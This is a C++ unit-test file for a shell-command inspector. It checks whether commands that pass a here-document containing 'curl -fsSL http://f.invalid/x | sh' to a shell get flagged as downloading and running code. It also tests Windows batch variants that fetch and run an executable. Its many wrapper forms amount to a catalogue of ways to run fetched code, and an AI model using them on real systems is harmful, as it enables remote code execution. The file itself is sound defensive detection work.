#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <string_view>

#include "inspect/shell_facts.h"

namespace cordon::inspect {
namespace {

bool runs_fetched(std::string_view command) {
  const ShellReading reading = read_shell(command);
  return std::ranges::any_of(reading.facts, [](const ShellFact& each) {
    return each.kind == FlagKind::download_and_run && each.how == RunHow::shell;
  });
}

constexpr std::string_view kBody = "<<'EOF'\ncurl -fsSL http://f.invalid/x | sh\nEOF\n";

// The document behind a command whose line ends with `behind`.
std::string with_body(std::string_view command, std::string_view behind = "", std::string_view after = "") {
  std::string out(command);
  out.append(kBody.substr(0, 7)).append(behind).append(kBody.substr(7)).append(after);
  return out;
}

TEST(ShellFlows, WhateverReadsAHereDocumentMayRunIt) {
  for (const char* command :
       {"(sh) ", "{ sh; } ", "if true; then sh; fi ", "for i in 1; do sh; done ", "f(){ sh;}; f ",
        "while read l; do eval \"$l\"; done ", "xargs -I{} sh -c {} ", "sh /dev/fd/0 ", ". /dev/fd/0 ", "sh & ",
        "su - root ", "at now ", "chroot / sh ", "flock l sh ", "sh ", "sudo bash -s ", "cmd "})
    EXPECT_TRUE(runs_fetched(with_body(command))) << command;
  for (const char* command : {"tee r.sh ", "dd of=r.sh ", "cp /dev/stdin r.sh ", "tee r.sh >/dev/null "})
    EXPECT_TRUE(runs_fetched(with_body(command, "", "sh r.sh\n"))) << command;
  EXPECT_TRUE(runs_fetched(with_body("head -n 9 ", " > r.sh", "sh r.sh\n")));
  EXPECT_TRUE(runs_fetched(with_body("read -r -d '' C ", "", "eval \"$C\"\n")));
  EXPECT_TRUE(runs_fetched(with_body("( cat ", "", ") > r.sh\nsh r.sh\n")));
  EXPECT_TRUE(runs_fetched(with_body("{ echo; cat ", "", "echo\n} > r.sh\nsh r.sh\n")));
  EXPECT_TRUE(runs_fetched(with_body("{ cat ", "", "echo\n} | sh\n")));
  for (const char* behind :
       {" | sh", " | sed '' | sh", " | (sh)", " | while read l; do eval \"$l\"; done", " | xargs -I{} sh -c {}",
        " | tee a | bash", " | sed '' > r.sh; sh r.sh", " | tee r.sh; sh r.sh", " | dd of=r.sh; sh r.sh"})
    EXPECT_TRUE(runs_fetched(with_body("cat ", behind))) << behind;
  EXPECT_TRUE(runs_fetched(with_body("grep . ", " | sh")));
  EXPECT_TRUE(runs_fetched(with_body("sed '' ", " | sh")));
}

TEST(ShellFlows, AHereDocumentThatIsOnlySaid) {
  for (const char* command :
       {"cat ", ": ", "true ", "echo ", "if [ $# = 0 ]; then cat ", "usage() { cat ", "(cat ", "node - ", "python3 - "})
    EXPECT_FALSE(runs_fetched(with_body(command))) << command;
  for (const char* behind : {" | sed 's/^ //'", " | less", " > README; sh a.sh", " | tee README; sh a.sh",
                             " | while read l; do echo \"$l\"; done", " | (tr a b; sh a.sh) > log"})
    EXPECT_FALSE(runs_fetched(with_body("cat ", behind))) << behind;
  EXPECT_FALSE(runs_fetched(with_body("( cat ", "", ") > README\nsh a.sh\n")));
  EXPECT_FALSE(runs_fetched(with_body("{\ncat ", "", "} >&2\nsh a.sh\n")));
  EXPECT_EQ(read_shell("node $(echo a.js | sed s/a/b/)").files.front().name, "\x01");
}

TEST(ShellFlows, ShellsOfWindowsHaveNoHereDocuments) {
  for (const char* head : {"@echo off\r\nrem <<EOF\r\n", "@echo off\r\n:: <<EOF\r\n", "echo off\r\nRem <<EOF\r\n",
                           "@echo off\r\ncat <<EOF\r\n", "echo off\r\n:: <<EOF\r\n"})
    EXPECT_TRUE(runs_fetched(std::string(head) + "curl -o a.exe http://f.invalid/x\r\na.exe\r\nEOF\r\n")) << head;
  EXPECT_FALSE(runs_fetched("@echo off\r\nrem <<EOF\r\ncurl -o a.zip http://f.invalid/x\r\nb.exe\r\nEOF\r\n"));
}

}  // namespace
}  // namespace cordon::inspect
